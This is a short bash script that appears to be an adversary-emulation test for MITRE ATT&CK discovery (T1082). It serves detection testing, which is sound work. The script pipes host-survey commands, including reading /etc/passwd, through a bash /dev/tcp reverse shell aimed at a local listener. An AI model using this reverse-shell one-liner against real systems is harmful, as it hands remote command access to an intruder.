#!/bin/bash
# technique: T1082
# tactic: discovery
# what: host survey typed into a reverse shell: id, whoami, uname -a, hostname, ip a, ps, cat /etc/passwd
# source: ART T1082 #3, T1033, T1016, T1057, T1087.001 one-liners, run the way an intruder runs
#         them (through a shell driven over the network)
# cleanup: the listener stops after the session
# fast: yes
. "$(dirname "$0")/lib.sh"
port=$(vg_serve shell $'id\nwhoami\nuname -a\nhostname\nip a\nps -ef\ncat /etc/passwd\nexit')
timeout 10 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
true
